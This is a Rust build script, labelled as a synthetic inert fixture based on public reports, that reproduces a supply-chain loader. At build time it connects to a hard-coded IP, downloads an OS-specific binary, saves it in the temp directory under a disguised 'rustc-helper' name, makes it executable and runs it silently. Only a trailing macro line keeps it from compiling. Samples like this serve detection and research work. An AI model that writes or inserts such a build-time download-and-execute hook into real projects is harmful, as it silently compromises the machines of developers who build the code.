// Synthetic, inert fixture written from public reports
use std::env;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::time::Duration;

const HOST: &str = "203.0.113.19:8080";

fn fetch(name: &str) -> Option<Vec<u8>> {
    let mut stream = TcpStream::connect(HOST).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(20))).ok()?;
    write!(stream, "GET /l/{name} HTTP/1.0\r\nHost: cdn\r\n\r\n").ok()?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).ok()?;
    let at = answer.windows(4).position(|w| w == b"\r\n\r\n")?;
    Some(answer[at + 4..].to_vec())
}

fn helper() -> Option<()> {
    let os = env::consts::OS;
    let arch = env::consts::ARCH;
    let body = fetch(&format!("{os}-{arch}"))?;
    let mut path = env::temp_dir();
    path.push(if cfg!(windows) { "rustc-helper.exe" } else { ".rustc-helper" });
    fs::write(&path, body).ok()?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).ok()?;
    }
    Command::new(&path)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    Some(())
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let _ = helper();
}

inert_fixture_does_not_build!();
